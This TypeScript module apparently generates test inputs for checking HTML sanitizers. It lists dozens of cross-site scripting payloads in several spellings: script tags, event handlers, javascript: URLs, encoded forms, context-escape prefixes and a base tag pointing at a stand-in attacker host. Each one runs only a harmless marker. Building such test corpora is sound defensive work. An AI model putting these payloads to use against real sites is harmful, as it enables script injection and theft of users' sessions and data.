/**
 * Texts that run as script where a page reads text as markup: known ways in, each in several spellings, made so that
 * whatever runs leaves its mark (`globalThis.ran`), opens a dialog or asks for something. Facts about browsers, as the
 * public lists of such vectors have them.
 */

/** What each vector tries to run. */
const RUN = 'globalThis.ran=1';

const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="/x.js"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}" form=f>x</button><form id=f></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<style>@import '/x.css';</style>`,
  `<link rel=stylesheet href="/x.css">`,
  `<base href="https://attacker.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div onpointerenter=${RUN} style="position:fixed;inset:0">x</div>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x contenteditable onblur=${RUN} tabindex=0 autofocus>x`,
  `<dialog open onclose=${RUN}>x</dialog>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<slot onslotchange=${RUN}></slot>`,
];

/** Where the page has put the text: each first leaves what it would stand in. */
const ESCAPES: readonly string[] = ['', '">', "'>", '</title>', '</textarea>', '</script>', '--></style>', '`}]]>'];

const PLAIN: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `" onfocus="${RUN}" autofocus x="`,
  `' onpointerenter='${RUN}' x='`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `]]></script><script>${RUN}</script>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `＜img src=x onerror=${RUN}＞`,
  `\u202e<img src=x onerror=${RUN}>`,
  `"><svg/onload=${RUN}>//`,
  `*/${RUN}/*`,
  `red;background:url('javascript:${RUN}')`,
];

/** As many different ones as asked for; the same each time. */
export function xssVectors(count: number): readonly string[] {
  const found = new Set<string>(PLAIN);
  for (const way of ESCAPES) for (const markup of MARKUP) found.add(`${way}${markup}`);
  for (const markup of MARKUP)
    found.add(markup.replaceAll(/<(\/?)([a-z]+)/g, (_, slash: string, tag: string) => `<${slash}${tag.toUpperCase()}`));
  const all = [...found];
  if (all.length < count) throw new Error(`there are ${all.length} vectors, not ${count}`);
  // Spread over all kinds, whatever the count.
  return Array.from({ length: count }, (_, i) => all[Math.floor((i * all.length) / count)] ?? '');
}
